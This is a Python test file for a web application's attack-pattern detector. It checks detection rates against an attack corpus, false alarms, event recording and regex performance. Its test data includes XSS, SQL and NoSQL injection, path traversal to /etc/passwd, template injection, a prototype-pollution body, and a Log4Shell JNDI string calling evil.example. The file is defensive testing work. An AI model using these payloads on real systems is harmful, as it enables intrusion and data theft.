"""What attacks look like: how many of the corpus are recognized, and how much of work is."""

import re
import time
from collections.abc import Iterator
from re import _constants as codes  # type: ignore[attr-defined]  # private, and the only parser
from re import _parser as parser  # type: ignore[attr-defined]  # of the language there is
from typing import Any

import pytest
from django.test import Client
from hypothesis import given
from hypothesis import strategies as st

from accounts.api.tokens import pair_for
from accounts.security_events import store
from craftify.security.events import recorder
from craftify.security.patterns import LONGEST, kinds_in
from craftify.security.patterns.reading import plain
from craftify.security.patterns.rules import RULES
from craftify.security.patterns.watching import MOST_TEXTS, fields_of
from templates_app.starters import all_starters
from tests.attacks.harmless import AGENTS, WORDS
from tests.attacks.probes import PROBES
from tests.attacks.xss import payloads
from tests.cast import Acme
from tests.web.test_review import SignIn

# Of the corpus that the rules were written with: a floor against mistakes, no promise about others.
FOUND, FOUND_SCRIPTS, FALSE_ALARMS = 0.97, 0.92, 0.01
PATTERNS = [one for rules in RULES.values() for one in rules]


def found(acme: Acme) -> list[str]:
    """The subjects of what was recorded of Acme, the first one first."""
    recorder.flush()
    events = list(store.newest(acme.id))[::-1]
    return [one.about for one in events if one.kind == "pattern.found"]


def test_the_corpus_of_attacks_is_recognized() -> None:
    print()
    hits = total = 0
    for kind, texts in PROBES.items():
        right = sum(kind in kinds_in(text) for text in texts)
        hits, total = hits + sum(bool(kinds_in(text)) for text in texts), total + len(texts)
        print(f"  {kind:9} {right:3} of {len(texts)} as what they are")
    scripts = payloads()
    run = sum(bool(kinds_in(one.text)) for one in scripts)
    print(f"  probes {hits} of {total}; scripts {run} of {len(scripts)}")
    assert hits / total >= FOUND
    assert run / len(scripts) >= FOUND_SCRIPTS


def test_what_people_write_is_none() -> None:
    every = [*WORDS, *AGENTS]
    wrong = [text for text in every if kinds_in(text)]
    print(f"\n  false alarms: {len(wrong)} of {len(every)}")
    assert len(wrong) / len(every) <= FALSE_ALARMS, wrong


def test_templates_are_made_and_found_without_an_alarm(acme: Acme, sign_in: SignIn) -> None:
    client = Client(headers={"Authorization": f"Bearer {pair_for(acme.eve)['access']}"})
    eve = sign_in(acme.eve)
    asked = 0
    sources = [one.source for one in all_starters()]
    sources += [f"<p>{one.text}</p>" for one in payloads()[::30]]  # somebody's security newsletter
    for number, source in enumerate(sources):
        body = {
            "name": WORDS[number],
            "source": source,
            "subject": f"{WORDS[-number]} {{{{ 7 | plus: 7 }}}}",
            "description": "<b>bold</b> ' or 1=1",
            "sample": {"items": [{"$price": "' or 1=1--"}]},
            "tags": [WORDS[2 * number][:40]],
        }
        answer = client.post("/api/templates", body, content_type="application/json")
        assert answer.status_code == 201, answer.content
        asked += 1
    for word in (*WORDS[::4], *(one.subject for one in all_starters())):
        answer = eve.get("/templates", {"q": word}, headers={"User-Agent": AGENTS[0]})
        assert answer.status_code == 200
        asked += 1
    print(f"\n  false alarms: {len(found(acme))} of {asked} requests")
    assert found(acme) == []


def test_it_is_seen_where_it_stands_and_nothing_is_refused(acme: Acme, sign_in: SignIn) -> None:
    eve = sign_in(acme.eve)
    for address, status in (
        ("/templates?q=<script>alert(1)</script>", 200),
        ("/templates?q=%27%20OR%201%3D1--", 200),
        ("/templates/..%2f..%2fetc%2fpasswd", 404),
        ("/.git/config", 404),
        ("/wp-login.php", 404),
        ("/templates?page[$ne]=1", 200),
    ):
        assert eve.get(address).status_code == status, address
    assert eve.get("/", headers={"User-Agent": "${jndi:ldap://evil.example/a}"}).status_code == 200
    eve.post("/theme", {"theme": "{{7*7}}"})
    assert set(found(acme)) == {
        "script in a parameter",
        "sql in a parameter",
        "path in the path",
        "nosql in a parameter",
        "template in a header",
        "path in a header",
        "template in a field",
    }


def test_it_is_seen_in_json_in_names_and_values(acme: Acme) -> None:
    client = Client(headers={"Authorization": f"Bearer {pair_for(acme.ada)['access']}"})
    bodies: list[Any] = [{"name": "x'; DROP TABLE users; --"}, {"name": {"$ne": ""}}]
    for body in (*bodies, {"__proto__": {}}):
        client.post("/api/teams", body, content_type="application/json")
    assert set(found(acme)) == {"sql in a field", "nosql in a field"}


def test_nobody_known_is_no_event_of_an_organization(acme: Acme) -> None:
    assert Client().get("/.env").status_code == 404
    assert found(acme) == []


def test_secrets_and_emails_are_not_looked_into() -> None:
    body = {"password": "' or 1=1--", "source": "<script>", "sample": {"$ne": {"a": "<b>"}}}
    assert fields_of(body) == [("", "password"), ("", "source"), ("", "sample")]
    assert len(fields_of([{"a": "b"}] * 10_000)) == MOST_TEXTS
    deep: Any = "x"
    for _ in range(5_000):
        deep = [deep]
    assert fields_of(deep) == [("", "x")]


def repeats(tree: Any, around: int = 1) -> Iterator[int]:
    """How often the innermost of each nest of repetitions may go round at most."""
    for code, argument in tree:
        if code in {codes.MAX_REPEAT, codes.MIN_REPEAT, codes.POSSESSIVE_REPEAT}:
            _, most, inside = argument
            yield around * int(most)
            yield from repeats(inside, around * int(most))
        elif code is codes.BRANCH:
            for one in argument[1]:
                yield from repeats(one, around)
        elif code is codes.SUBPATTERN:
            yield from repeats(argument[3], around)
        elif code in {codes.ASSERT, codes.ASSERT_NOT}:
            yield from repeats(argument[1], around)


@pytest.mark.parametrize("pattern", PATTERNS)
def test_every_repetition_has_an_end_near_by(pattern: str) -> None:
    """Then a place of a text takes a bounded time, and a text a linear one."""
    assert max(repeats(parser.parse(pattern)), default=0) <= 600


def test_the_check_sees_what_has_no_end() -> None:
    assert max(repeats(parser.parse("(a{0,40}b)*"))) > 600
    assert max(repeats(parser.parse("(?:x|(?=a+))"))) > 600


PIECES = re.findall(r"[a-z_]{2,12}|[^a-z0-9\s]", "".join(PATTERNS))


@given(st.lists(st.sampled_from(sorted(set(PIECES))), max_size=60), st.integers(1, 60))
def test_any_text_is_read_to_its_end(pieces: list[str], times: int) -> None:
    """What the rules are made of, over and over; slow ones would end this test by its time-out."""
    assert kinds_in("".join(pieces) * times) <= RULES.keys()


@given(st.text(max_size=300))
def test_reading_never_fails_and_stays_short(text: str) -> None:
    assert len(plain(text)) <= 2 * LONGEST
    assert kinds_in(text) <= RULES.keys()


def test_the_cost_is_printed() -> None:
    every = [*WORDS, *AGENTS, "/templates/tpl_01m84tjwr0gf9s1x6dg23ps1rr/edit"]
    begun = time.perf_counter()
    for text in every:
        kinds_in.__globals__["_kinds_in"].__wrapped__(text)
    each = (time.perf_counter() - begun) / len(every)
    agent = AGENTS[0]
    kinds_in(agent)
    begun = time.perf_counter()
    for _ in range(1_000):
        kinds_in(agent)
    known = (time.perf_counter() - begun) / 1_000
    print(f"\n  a new text {each * 1e6:.0f} µs, one that was seen {known * 1e6:.2f} µs")
    assert len(every) > 150
